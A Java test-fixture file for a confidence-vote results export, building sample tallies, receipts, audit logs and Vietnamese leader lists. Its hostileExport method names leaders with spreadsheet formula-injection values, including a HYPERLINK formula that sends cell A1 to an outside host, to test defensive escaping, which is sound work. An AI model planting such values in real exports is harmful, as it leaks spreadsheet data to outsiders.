package vn.tinnhiem.export;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import vn.tinnhiem.core.AuditEntry;
import vn.tinnhiem.core.LeaderCounts;
import vn.tinnhiem.core.MinutesSetting;
import vn.tinnhiem.core.Results;
import vn.tinnhiem.core.Tally;
import vn.tinnhiem.core.VoteDefinition;
import vn.tinnhiem.core.chat.ResultsView;
import vn.tinnhiem.testing.Votes;

/**
 * A closed vote with known figures: 490 summoned, 485 ballots issued, 481 returned.
 * The director has 448 HIGH (93,14%); deputy 1 has 300 LOW (over half, under two thirds);
 * deputy 2 has 321 LOW (3·321 = 963 ≥ 2·481 = 962: two thirds or more).
 */
final class ExportFixtures {
    private ExportFixtures() {}

    static final Instant OPENED = Instant.parse("2026-11-27T01:00:00Z");
    static final Instant CLOSED = Instant.parse("2026-11-27T03:30:00Z");
    static final Instant MADE = Instant.parse("2026-11-27T03:45:00Z");

    static VoteDefinition vote() {
        return Votes.builder("ltn-2026").participants(490).build();
    }

    static Results results() {
        return Results.of(vote(), new Tally(485, 481, List.of(
                new LeaderCounts(448, 20, 8, 5),
                new LeaderCounts(100, 60, 300, 21),
                new LeaderCounts(80, 70, 321, 10))));
    }

    static List<String> receipts() {
        List<String> codes = new ArrayList<>();
        for (int i = 0; i < 481; i++) {
            codes.add(String.format("R%05X", 0x3A1F7 + i * 7919 % 0xFFFFF));
        }
        return codes;
    }

    static List<AuditEntry> auditLog(Results results) {
        return List.of(
                new AuditEntry(OPENED.minusSeconds(3600), "created", "sha256=" + results.definition().fingerprint()),
                new AuditEntry(OPENED, "opened", "sha256=" + results.definition().fingerprint()),
                new AuditEntry(CLOSED, "closed", ""),
                new AuditEntry(CLOSED.plusSeconds(1), "results", "sha256=" + ResultsView.digest(results)));
    }

    static ResultsExport export(String lang) {
        Results results = results();
        return new ResultsExport(results, receipts(), auditLog(results), Locale.forLanguageTag(lang), MADE);
    }

    /** Keeps an example under target/ for a person to look at. */
    static void keep(String name, byte[] bytes) {
        try {
            Path dir = Path.of("target", "export-examples");
            Files.createDirectories(dir);
            Files.write(dir.resolve(name), bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Leaders named like formulas (issue 11, item 5), with the reference figures. */
    static final String HYPERLINK = "=HYPERLINK(\"http://example.org/?x=\"&A1,\"x\")";
    static final String ARITHMETIC = "-2+3";

    static ResultsExport hostileExport() {
        VoteDefinition vote = Votes.builder("ltn-2026").participants(490)
                .leaders(new vn.tinnhiem.core.Leader("director", HYPERLINK, "@SUM(1+1)"),
                        new vn.tinnhiem.core.Leader("deputy1", ARITHMETIC, "+Phó Cục trưởng"),
                        new vn.tinnhiem.core.Leader("deputy2", "\tTab", "\rReturn"))
                .build();
        Results results = Results.of(vote, results().tally());
        return new ResultsExport(results, receipts(), auditLog(results), Locale.forLanguageTag("vi"), MADE);
    }

    /** The reference figures, for a vote whose file names the conference, the place, a Party heading and a committee of three. */
    static ResultsExport filedExport(List<String> receipts) {
        VoteDefinition base = vote();
        VoteDefinition vote = new VoteDefinition(base.id(), base.title(), base.unit(), base.rulebook(), base.language(),
                base.leaders(), base.roster(), base.organisers(), base.supervisors(), null, false, VoteDefinition.VIETNAM, null,
                new vn.tinnhiem.core.MinutesSetting("Hội nghị cán bộ, công chức năm 2026", "Hà Lam",
                        vn.tinnhiem.core.MinutesSetting.Heading.PARTY,
                        List.of(new vn.tinnhiem.core.MinutesSetting.Member("Nguyễn Thị Hoa", "Trưởng ban"),
                                new vn.tinnhiem.core.MinutesSetting.Member("Lê Văn Tám", "Thành viên"),
                                new vn.tinnhiem.core.MinutesSetting.Member("Đinh Thị Mận", "Thư ký"))));
        Results results = Results.of(vote, results().tally());
        return new ResultsExport(results, receipts, auditLog(results), Locale.forLanguageTag("vi"), MADE);
    }

    /**
     * A 60-person unit's vote on 44 leaders (the issue 19 organiser's), Vietnamese names and long
     * positions, a committee of three under a State heading, the receipts of 58 ballots: leader 7
     * has over half LOW, leader 31 two thirds or more.
     */
    static ResultsExport fortyFourLeaders(MinutesSetting.Heading heading) {
        String[] family = {"Nguyễn", "Trần", "Lê", "Phạm", "Hoàng", "Huỳnh", "Phan", "Vũ", "Võ", "Đặng", "Bùi"};
        String[] middle = {"Văn", "Thị", "Thị Thu", "Đức", "Ngọc", "Minh", "Quốc", "Thị Hồng"};
        String[] given = {"Anh", "Bích", "Cường", "Dũng", "Hằng", "Khoa", "Lan", "Mạnh", "Nguyệt", "Phượng", "Quý",
            "Sơn", "Thắng", "Uyên", "Việt", "Yến", "Ánh", "Đạt", "Ổn", "Ước"};
        String[] posts = {"Chi cục trưởng Chi cục Thi hành án dân sự huyện Hà Lam",
            "Phó Chánh Văn phòng Cục Thi hành án dân sự tỉnh", "Trưởng phòng Nghiệp vụ và Tổ chức thi hành án",
            "Phó Trưởng phòng Kiểm tra, giải quyết khiếu nại, tố cáo", "Chấp hành viên trung cấp"};
        vn.tinnhiem.core.Leader[] leaders = new vn.tinnhiem.core.Leader[44];
        List<LeaderCounts> counts = new ArrayList<>();
        for (int i = 0; i < 44; i++) {
            leaders[i] = new vn.tinnhiem.core.Leader("l" + i, family[i % family.length] + " " + middle[i % middle.length]
                    + " " + given[i % given.length], posts[i % posts.length]);
            int low = i == 6 ? 32 : i == 30 ? 40 : i % 7;
            int blank = i % 3;
            int medium = (i * 5) % 13;
            counts.add(new LeaderCounts(58 - low - blank - medium, medium, low, blank));
        }
        VoteDefinition base = Votes.builder("ltn-2026").participants(60).leaders(leaders).build();
        VoteDefinition vote = new VoteDefinition(base.id(), base.title(), base.unit(), base.rulebook(), base.language(),
                base.leaders(), base.roster(), base.organisers(), base.supervisors(), null, false, VoteDefinition.VIETNAM,
                null, new MinutesSetting("Hội nghị cán bộ, công chức năm 2026", "Hà Lam", heading,
                        List.of(new MinutesSetting.Member("Nguyễn Thị Hoa", "Trưởng ban"),
                                new MinutesSetting.Member("Lê Văn Tám", "Thành viên"),
                                new MinutesSetting.Member("Đinh Thị Mận", "Thư ký"))));
        Results results = Results.of(vote, new Tally(59, 58, counts));
        vn.tinnhiem.core.chat.Codes codes = new vn.tinnhiem.core.chat.Codes();
        List<String> receipts = new ArrayList<>();
        for (int i = 0; i < 58; i++) {
            receipts.add(codes.receipt());
        }
        return new ResultsExport(results, receipts, auditLog(results), Locale.forLanguageTag("vi"), MADE);
    }
}
